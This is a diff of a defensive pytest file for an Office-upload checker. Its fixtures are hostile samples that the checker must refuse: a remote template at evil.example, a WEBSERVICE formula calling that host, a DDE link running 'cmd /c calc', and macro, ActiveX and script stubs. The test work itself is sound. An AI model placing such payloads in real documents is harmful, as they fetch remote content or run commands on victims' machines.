@@ -4,36 +4,9 @@ import io
 import zipfile
 
 import pytest
-from docx.oxml.ns import nsdecls
 
 from cica_portal import uploads
-from cica_portal.uploads import refusals
-from tests.cica_portal.test_uploads import package, relationships, types
-
-WORKBOOK = f"{uploads.SHEET_TYPE}.main+xml"
-
-
-def refusal(content: bytes) -> refusals.Refused | None:
-    try:
-        uploads.kind_of(content)
-    except refusals.Refused as refused:
-        return refused
-    return None
-
-
-def document(inside: str, part: str = "word/document.xml") -> bytes:
-    names = nsdecls("w") + ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="http://x"'
-    names += ' xmlns:o="urn:schemas-microsoft-com:office:office"'
-    return package(**{part: f"<w:document {names}><w:body>{inside}</w:body></w:document>"})
-
-
-def sheet(inside: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
-    return package(**{"[Content_Types].xml": types(WORKBOOK), part: f"<worksheet>{inside}</worksheet>"})
-
-
-def drawing(inside: str) -> bytes:
-    return package(**{"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'})
-
+from tests.files import document, drawing, package, refusal, refused, relationships, sheet
 
 OUTSIDE = {
     "template": ("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm"),
@@ -50,9 +23,9 @@ OUTSIDE = {
 
 @pytest.mark.parametrize(("part", "kind", "target"), OUTSIDE.values(), ids=OUTSIDE)
 def test_parts_outside_of_the_file_are_refused_and_named(part, kind, target):
-    found = refusal(package(**{part: relationships((kind, target, "External"))}))
+    found = refused(package(**{part: relationships((kind, target, "External"))}))
 
-    assert type(found) is refusals.WithOutsideParts
+    assert found.code == "with_outside_parts"
     assert target in str(found)
 
 
@@ -73,7 +46,7 @@ def test_parts_outside_of_the_file_are_refused_and_named(part, kind, target):
     ],
 )
 def test_what_is_fetched_without_a_relation_is_refused_too(content):
-    assert type(refusal(content)) is refusals.WithOutsideParts
+    assert refusal(content) == "with_outside_parts"
 
 
 @pytest.mark.parametrize(
@@ -84,7 +57,7 @@ def test_what_is_fetched_without_a_relation_is_refused_too(content):
     ],
 )
 def test_a_drawing_that_fetches_nothing_passes(inside):
-    assert refusal(drawing(inside)) is None
+    assert not refusal(drawing(inside))
 
 
 # Links: a person must click, and they lead to the web or to a mail address ------------------------------
@@ -95,7 +68,7 @@ LINKS = "word/_rels/document.xml.rels"
     "target", ["https://www.example.org/", "HTTP://example.org", "mailto:a@example.org", "#a"]
 )
 def test_links_to_the_web_and_to_mail_pass(target):
-    assert refusal(package(**{LINKS: relationships(("hyperlink", target, "External"))})) is None
+    assert not refusal(package(**{LINKS: relationships(("hyperlink", target, "External"))}))
 
 
 @pytest.mark.parametrize(
@@ -117,9 +90,9 @@ def test_links_to_the_web_and_to_mail_pass(target):
     ],
 )
 def test_links_that_lead_elsewhere_are_refused_and_named(target):
-    found = refusal(package(**{LINKS: relationships(("hyperlink", target, "External"))}))
+    found = refused(package(**{LINKS: relationships(("hyperlink", target, "External"))}))
 
-    assert type(found) is refusals.WithLinks
+    assert found.code == "with_links"
     assert target in str(found)
 
 
@@ -130,34 +103,34 @@ def test_links_that_lead_elsewhere_are_refused_and_named(target):
     ],
 )
 def test_links_without_a_relation_are_judged_alike(content):
-    assert type(refusal(content)) is refusals.WithLinks
+    assert refusal(content) == "with_links"
 
 
 # Workbooks ----------------------------------------------------------------------------------------------
 @pytest.mark.parametrize(
     ("content", "reason"),
     [
-        (sheet("<c><f>WEBSERVICE(&quot;https://evil.example/&quot;)</f></c>"), refusals.WithFormulas),
-        (sheet("<c><f>1+_xlfn.IMAGE (A1)</f></c>"), refusals.WithFormulas),
+        (sheet("<c><f>WEBSERVICE(&quot;https://evil.example/&quot;)</f></c>"), "with_formulas"),
+        (sheet("<c><f>1+_xlfn.IMAGE (A1)</f></c>"), "with_formulas"),
         (
             sheet('<definedName name="a">rtd("a","","b")</definedName>', "xl/workbook.xml"),
-            refusals.WithFormulas,
+            "with_formulas",
         ),
         (
             sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "xl/externalLinks/a.xml"),
-            refusals.WithData,
+            "with_data",
         ),
-        (sheet('<oleLink progId="a"/>', "xl/externalLinks/a.xml"), refusals.WithData),
-        (sheet('<connection><dbPr connection="a"/></connection>', "xl/connections.xml"), refusals.WithData),
+        (sheet('<oleLink progId="a"/>', "xl/externalLinks/a.xml"), "with_data"),
+        (sheet('<connection><dbPr connection="a"/></connection>', "xl/connections.xml"), "with_data"),
         (
             sheet('<connection><webPr url="https://a/"/></connection>', "xl/connections.xml"),
-            refusals.WithData,
+            "with_data",
         ),
-        (document("<w:mailMerge/>", "word/settings.xml"), refusals.WithData),
+        (document("<w:mailMerge/>", "word/settings.xml"), "with_data"),
     ],
 )
 def test_what_takes_data_from_elsewhere_is_refused(content, reason):
-    assert type(refusal(content)) is reason
+    assert refusal(content) == reason
 
 
 @pytest.mark.parametrize(
@@ -179,10 +152,10 @@ def test_embedded_files_pass_the_same_gate():
     deeper = package(**{"word/embeddings/a.docx": within})
     programme = uploads.OLD_WORD_SIGNATURE + "\x01Ole10Native".encode("utf-16-le")
 
-    assert type(refusal(within)) is type(refusal(deeper)) is refusals.WithMacros
-    assert type(refusal(package(**{"word/embeddings/o.bin": programme}))) is refusals.WithMacros
-    assert refusal(package(**{"word/embeddings/a.xlsx": sheet("<c/>")})) is None
-    assert refusal(package(**{"word/embeddings/o.bin": uploads.OLD_WORD_SIGNATURE + b"Equation"})) is None
+    assert refusal(within) == refusal(deeper) == "with_macros"
+    assert refusal(package(**{"word/embeddings/o.bin": programme})) == "with_macros"
+    assert not refusal(package(**{"word/embeddings/a.xlsx": sheet("<c/>")}))
+    assert not refusal(package(**{"word/embeddings/o.bin": uploads.OLD_WORD_SIGNATURE + b"Equation"}))
 
 
 def test_a_file_within_a_file_within_a_file_ends_somewhere():
@@ -193,33 +166,33 @@ def test_a_file_within_a_file_within_a_file_ends_somewhere():
             file.writestr("a.zip", content)
         content = stream.getvalue()
 
-    assert type(refusal(package(**{"word/embeddings/a.zip": content}))) is refusals.TooManyParts
+    assert refusal(package(**{"word/embeddings/a.zip": content})) == "too_many_parts"
 
 
 # Macros, controls, scripts ----------------------------------------------------------------------------
 ACTIVE = {
-    "macros": ({"word/vbaProject.bin": b"\xd0\xcf"}, refusals.WithMacros),
-    "a control": ({"word/activeX/activeX1.xml": "<ax/>"}, refusals.WithMacros),
+    "macros": ({"word/vbaProject.bin": b"\xd0\xcf"}, "with_macros"),
+    "a control": ({"word/activeX/activeX1.xml": "<ax/>"}, "with_macros"),
     "a packed program": (
         {
             "word/embeddings/oleObject1.bin": uploads.OLD_WORD_SIGNATURE
             + "\x01Ole10Native".encode("utf-16-le")
         },
-        refusals.WithMacros,
+        "with_macros",
     ),
-    "scripts of a custom part": ({"customXml/item1.xml": "<script>x</script>"}, refusals.WithMacros),
-    "a drawing with a script": ({"word/media/a.svg": "<svg><script>x</script></svg>"}, refusals.WithMacros),
+    "scripts of a custom part": ({"customXml/item1.xml": "<script>x</script>"}, "with_macros"),
+    "a drawing with a script": ({"word/media/a.svg": "<svg><script>x</script></svg>"}, "with_macros"),
     "a script inside a picture's name": (
         {"word/media/a.png": "<svg><script>x</script></svg>"},
-        refusals.WithMacros,
+        "with_macros",
     ),
 }
 
 
 @pytest.mark.parametrize(("added", "reason"), ACTIVE.values(), ids=ACTIVE)
 def test_what_acts_in_an_office_file_is_refused(added, reason):
-    assert type(refusal(package(**added))) is reason
+    assert refusal(package(**added)) == reason
 
 
 def test_an_embedded_font_neither_acts_nor_fetches_and_passes():
-    assert refusal(package(**{"word/fonts/font1.odttf": b"\x00\x01obfuscated"})) is None
+    assert not refusal(package(**{"word/fonts/font1.odttf": b"\x00\x01obfuscated"}))
